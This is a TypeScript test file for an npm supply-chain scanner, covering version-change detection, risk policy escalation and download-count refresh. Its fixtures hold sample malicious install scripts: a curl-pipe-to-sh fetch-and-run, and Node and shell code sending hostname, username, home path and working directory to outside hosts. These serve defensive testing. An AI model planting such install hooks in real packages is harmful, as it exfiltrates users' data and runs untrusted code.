/**
 * What changed since the previous version (lambdas/scanner/changes.ts), the risk policy's row for
 * it, and the downloads refresh's recomputation of a stored record.
 */
import { assessRisk } from '../../../src/policy/risk-policy';
import { previousVersion, releaseChanges } from '../../../lambdas/scanner/changes';
import { refreshed } from '../../../lambdas/scanner/downloads-refresh';
import { docsWithRisk, emptyCapabilities } from '../../../src/contract/records';
import type { PackageResponse } from '../../../src/contract/schemas';
import type { Packument, PackumentVersion } from '../../../lambdas/shared/registry/npm-registry';
import { analyzeSource } from '../analysis/helpers';

function manifest(version: string, extra: Partial<PackumentVersion> = {}): PackumentVersion {
  return {
    name: 'demo',
    version,
    maintainers: [{ name: 'alice' }, { name: 'bob' }],
    _npmUser: { name: 'alice' },
    dependencies: { ms: '^2.1.0' },
    dist: { tarball: 'x', integrity: 'sha512-x', unpackedSize: 40_000 } as PackumentVersion['dist'],
    ...extra,
  };
}

function packument(...versions: PackumentVersion[]): Packument {
  return { name: 'demo', versions: Object.fromEntries(versions.map((v) => [v.version, v])) };
}

const noInstall = analyzeSource({
  'package.json': JSON.stringify({ name: 'demo', version: '1.0.0' }),
  'index.js': 'module.exports = (a, b) => a + b;\n',
});

function storedOf(version: string, analysis = noInstall): { result: PackageResponse; basis: undefined } {
  return {
    result: {
      name: 'demo',
      version,
      registry: 'npm',
      risk_level: 'clean',
      risk_reasons: [],
      trust_score: 80,
      publisher: { name: 'alice', verified: false },
      weekly_downloads: 1000,
      install_scripts: analysis.install_scripts,
      cves: [],
      advisories: [],
      agentic_threats: analysis.agentic_threats,
      capabilities: analysis.capabilities,
      scanned_at: '2026-11-01T00:00:00.000Z',
    },
    basis: undefined,
  };
}

/** releaseChanges as the scanner calls it: the previous version, and its scan among `stored`. */
function changesOf(input: {
  packument: Packument;
  version: PackumentVersion;
  analysis: Parameters<typeof releaseChanges>[0]['analysis'];
  stored: Array<Parameters<typeof releaseChanges>[0]['previousScan'] & object>;
}) {
  const since = previousVersion(input.packument, input.version.version);
  const previousScan = input.stored.find((s) => s.result.version === since);
  return releaseChanges({ ...input, since, previousScan });
}

describe('previousVersion', () => {
  it('is the highest published version below, skipping pre-releases for a release', () => {
    const p = packument(manifest('1.0.0'), manifest('1.2.0'), manifest('1.3.0-beta.1'), manifest('2.0.0'));
    expect(previousVersion(p, '1.3.0')).toBe('1.2.0');
    expect(previousVersion(p, '1.3.0-beta.2')).toBe('1.3.0-beta.1');
    expect(previousVersion(p, '1.0.0')).toBeUndefined();
    expect(previousVersion(p, 'not-semver')).toBeUndefined();
  });
});

describe('releaseChanges', () => {
  it('is empty with since null for a first release', () => {
    const v = manifest('1.0.0');
    const report = changesOf({ packument: packument(v), version: v, analysis: noInstall, stored: [] });
    expect(report.changes).toEqual({ since: null, items: [] });
    expect(report.policy).toBeUndefined();
  });

  it('reports people, provenance, dependencies and size from the manifests alone', () => {
    const before = manifest('1.0.0', {
      dist: {
        tarball: 'x',
        integrity: 'sha512-x',
        attestations: { provenance: { predicateType: 'https://slsa.dev/provenance/v1' } },
        unpackedSize: 40_000,
      } as PackumentVersion['dist'],
    });
    const after = manifest('1.0.1', {
      maintainers: [{ name: 'alice' }, { name: 'mallory' }],
      _npmUser: { name: 'mallory' },
      dependencies: { ms: '^2.1.0', 'left-pad': '^1.3.0' },
      dist: { tarball: 'x', integrity: 'sha512-x', unpackedSize: 900_000 } as PackumentVersion['dist'],
    });
    const report = changesOf({
      packument: packument(before, after),
      version: after,
      analysis: noInstall,
      stored: [],
    });
    expect(report.changes.since).toBe('1.0.0');
    expect(report.changes.items).toEqual([
      { kind: 'dependency_added', detail: 'left-pad' },
      { kind: 'maintainers_changed', detail: 'added mallory; removed bob' },
      { kind: 'publisher_changed', detail: 'alice → mallory' },
      { kind: 'provenance_lost', detail: '1.0.0 had a provenance attestation; this version has none' },
      { kind: 'size_jump', detail: '39 KiB → 879 KiB unpacked' },
    ]);
    expect(report.provenanceLostSince).toBe('1.0.0');
    // None of these add install-time behaviour: the policy is not involved.
    expect(report.policy).toBeUndefined();
  });

  it('reports an install script added, and new capabilities against the stored scan of the previous version', () => {
    const before = manifest('1.0.0');
    const after = manifest('1.1.0', { scripts: { postinstall: 'node setup.js', test: 'jest' } });
    const analysis = analyzeSource({
      'package.json': JSON.stringify({
        name: 'demo',
        version: '1.1.0',
        scripts: { postinstall: 'node setup.js' },
      }),
      'index.js': 'module.exports = (a, b) => a + b;\n',
      'setup.js':
        "const cp = require('child_process');\ncp.execSync('curl -s https://cdn.demo-tools.io/x.sh | sh');\n",
    });
    const report = changesOf({
      packument: packument(before, after),
      version: after,
      analysis,
      stored: [storedOf('1.0.0')],
    });
    const kinds = report.changes.items.map((i) => i.kind);
    expect(kinds).toEqual(expect.arrayContaining(['install_script_added', 'capability_added']));
    expect(report.changes.items.find((i) => i.kind === 'install_script_added')?.detail).toBe(
      'postinstall: node setup.js',
    );
    expect(
      report.changes.items
        .filter((i) => i.kind === 'capability_added')
        .map((i) => i.detail)
        .join('; '),
    ).toMatch(/commands: .*curl/);
    expect(report.policy).toMatchObject({
      since: '1.0.0',
      install_scripts_added: ['postinstall ("node setup.js")'],
    });
  });

  it('catches an install script kept word for word whose file now makes network requests', () => {
    // The attacker's variation: the same `postinstall: node install.js`, a new install.js.
    const scripts = { postinstall: 'node install.js' };
    const before = manifest('2.0.0', { scripts });
    const after = manifest('2.0.1', { scripts });
    const old = analyzeSource({
      'package.json': JSON.stringify({ name: 'demo', version: '2.0.0', scripts }),
      'install.js': "console.log('thanks for installing');\n",
    });
    const now = analyzeSource({
      'package.json': JSON.stringify({ name: 'demo', version: '2.0.1', scripts }),
      'install.js': [
        "const send = require('./lib/send');",
        "send([process.env.HOME, require('os').hostname()].join('|'));",
        '',
      ].join('\n'),
      'lib/send.js':
        "const https = require('https');\nmodule.exports = (d) => https.request({ host: 'metrics.demo-tools.io', method: 'POST' }).end(d);\n",
    });
    const report = changesOf({
      packument: packument(before, after),
      version: after,
      analysis: now,
      stored: [
        {
          result: storedOf('2.0.0', old).result,
          basis: { risk_input: old.risk_input, trust: { score: 80, reasons: [] } },
        },
      ],
    });
    expect(report.changes.items.map((i) => i.kind)).toContain('install_time_behaviour_added');
    expect(report.policy).toMatchObject({
      install_scripts_added: [],
      install_time_added: 'network requests',
      install_time_network: true,
    });
    const risk = assessRisk({ ...now.risk_input, release_changes: report.policy! });
    expect(risk.risk_level).toBe('critical');
    expect(risk.risk_reasons.join(' ')).toMatch(/gives its install-time code behaviour 2\.0\.0 did not have/);
  });

  it('catches a new preinstall that runs a shipped shell script sending host data out', () => {
    // Another variation: the behaviour sits in a shell script, names and host in variables.
    const before = manifest('3.4.0');
    const scripts = { preinstall: 'sh ./tools/prepare.sh' };
    const after = manifest('3.4.1', { scripts });
    const analysis = analyzeSource({
      'package.json': JSON.stringify({ name: 'demo', version: '3.4.1', scripts }),
      'index.js': 'module.exports = (a, b) => a + b;\n',
      'tools/prepare.sh': [
        '#!/bin/sh',
        'T=telemetry.build-cache.dev',
        'ID="$(hostname)-$(whoami)"',
        'curl -s -X POST --data "$ID:$(pwd)" "https://$T/v1/hit" >/dev/null 2>&1 &',
        '',
      ].join('\n'),
    });
    const report = changesOf({ packument: packument(before, after), version: after, analysis, stored: [] });
    expect(report.policy).toMatchObject({
      install_scripts_added: ['preinstall ("sh ./tools/prepare.sh")'],
      install_time_network: true,
    });
    expect(assessRisk({ ...analysis.risk_input, release_changes: report.policy! }).risk_level).toBe(
      'critical',
    );
  });

  it('reports a changed install script, without calling it new install-time behaviour', () => {
    const before = manifest('1.0.0', { scripts: { install: 'node-gyp rebuild' } });
    const after = manifest('1.0.1', { scripts: { install: 'node-gyp rebuild --release' } });
    const report = changesOf({
      packument: packument(before, after),
      version: after,
      analysis: noInstall,
      stored: [],
    });
    expect(report.changes.items).toEqual([
      { kind: 'install_script_changed', detail: 'install: node-gyp rebuild → node-gyp rebuild --release' },
    ]);
    expect(report.policy).toBeUndefined();
  });
});

describe('risk policy: a release adding install-time behaviour', () => {
  const base = { threats: [], install_scripts: [{ name: 'postinstall', command: 'node setup.js' }] };

  it('is raised to warning, and to critical when that code makes network requests, naming the change', () => {
    const quiet = assessRisk({
      ...base,
      release_changes: {
        since: '1.0.0',
        install_scripts_added: ['postinstall ("node setup.js")'],
        install_time_added: null,
        install_time_network: false,
      },
    });
    expect(quiet.risk_level).toBe('warning');
    expect(quiet.risk_reasons[0]).toMatch(
      /This release adds install scripts postinstall \("node setup\.js"\) to a package whose previous version 1\.0\.0 had none/,
    );
    const network = assessRisk({
      ...base,
      install_time_capabilities: {
        makes_requests: true,
        spawns_children: false,
        domains: ['x.io'],
        commands: [],
      },
      release_changes: {
        since: '1.0.0',
        install_scripts_added: ['postinstall ("node setup.js")'],
        install_time_added: 'network requests',
        install_time_network: true,
      },
    });
    expect(network.risk_level).toBe('critical');
    expect(network.risk_reasons[0]).toMatch(/that code makes network requests/);
  });

  it('leaves the same install script alone when nothing changed', () => {
    expect(assessRisk(base).risk_level).toBe('clean');
  });
});

describe('docs_md states the final risk level', () => {
  it('replaces the level the findings alone gave', () => {
    const docs = '# lodash@4.17.4\n\n- License: MIT\n- Risk level: clean\n\n## Install\n';
    expect(docsWithRisk(docs, 'warning')).toMatch(
      /^- Risk level: warning \(findings, known vulnerabilities/m,
    );
    expect(docsWithRisk(undefined, 'warning')).toBeUndefined();
  });
});

describe('downloads refresh of a stored record', () => {
  const result: PackageResponse = {
    ...storedOf('1.0.0').result,
    capabilities: emptyCapabilities(),
    weekly_downloads: 10,
    downloads_source: { kind: 'download-counts', as_of: '2026-03-01' },
    trust_score: 0,
  };
  const basis = {
    risk_input: { threats: [], install_scripts: [] },
    trust: { score: 0, reasons: [] },
    trust_input: {
      maintainers: 3,
      packageCreated: '2020-01-01T00:00:00.000Z',
      versionPublished: '2026-10-01T00:00:00.000Z',
      provenance: false,
    },
  };
  const now = new Date('2026-11-25T00:00:00Z');

  it('writes the new count and source, and recomputes trust, its components and the risk', () => {
    const next = refreshed(
      { result, basis },
      { count: 5_000_000, source: { kind: 'download-api', as_of: '2026-11-24' } },
      now,
    );
    expect(next).toMatchObject({
      weekly_downloads: 5_000_000,
      downloads_source: { kind: 'download-api', as_of: '2026-11-24' },
      risk_level: 'clean',
    });
    expect(next!.trust_score).toBeGreaterThan(70);
    expect(next!.trust_components!.find((c) => c.name === 'downloads')?.why).toMatch(
      /5,000,000 downloads a week/,
    );
  });

  it('keeps the stored count when no source has one, and reports nothing when nothing changed', () => {
    const once = refreshed(
      { result, basis },
      { count: undefined, source: { kind: 'none', as_of: null } },
      now,
    )!;
    expect(once.weekly_downloads).toBe(10);
    expect(
      refreshed(
        { result: once, basis },
        { count: 10, source: { kind: 'download-counts', as_of: '2026-03-01' } },
        now,
      ),
    ).toBeUndefined();
  });
});

describe('process.binding', () => {
  it("of Node's own internal modules is not native code", () => {
    const result = analyzeSource({
      'package.json': JSON.stringify({ name: 'feature-detect', version: '1.0.0' }),
      'index.js':
        "let util;\ntry { util = process.binding('util'); } catch { util = null; }\nconst fs = process.binding('fs');\nmodule.exports = { util, fs };\n",
    });
    expect(result.capabilities.native).toEqual({ has_native: false, native_modules: [] });
  });
});
